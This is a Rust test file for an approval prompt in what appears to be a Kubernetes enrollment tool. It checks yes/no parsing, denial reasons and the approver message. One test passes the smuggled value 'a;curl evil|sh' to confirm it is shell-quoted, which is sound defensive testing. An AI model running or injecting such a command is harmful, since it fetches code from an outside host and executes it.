use super::*;

fn answers(typed: &'static str, can_approve: bool) -> Option<(Verdict, String)> {
    ask(&mut Terminal::new(typed, std::io::sink()), can_approve).expect("a text can be read")
}

#[test]
fn decides_only_by_a_whole_word_and_denies_with_a_reason() {
    for (typed, expected) in [
        ("yes\n\n", Some((Verdict::Approve, ""))),
        ("yes\nknown to me\n", Some((Verdict::Approve, "known to me"))),
        ("y\nyes\n\n", Some((Verdict::Approve, ""))),
        ("no\n\n  \nnot you\n", Some((Verdict::Deny, "not you"))),
        ("\n", None),
        ("", None),
        ("maybe\n", None),
        // An input that ends before the reason decides nothing.
        ("yes\n", None),
        ("no\n\n", None),
    ] {
        let expected = expected.map(|(verdict, reason)| (verdict, reason.to_owned()));
        assert_eq!(answers(typed, true), expected, "{typed:?}");
    }
}

#[test]
fn approves_nothing_that_cannot_be_decoded() {
    assert_eq!(answers("yes\n\n", false), None);
    assert_eq!(answers("no\nunreadable\n", false), Some((Verdict::Deny, "unreadable".into())));
}

#[test]
fn names_the_approver_in_the_message() {
    assert_eq!(message(Verdict::Approve, "ann", ""), "Approved by ann with kube-enroll.");
    assert_eq!(message(Verdict::Deny, "ann", "not you"), "not you (denied by ann with kube-enroll)");
}

#[test]
fn leaves_a_name_one_word_of_a_shell() {
    assert!(not_issued_yet("kube-enroll", "a;curl evil|sh").ends_with("kube-enroll review 'a;curl evil|sh'\n"));
}
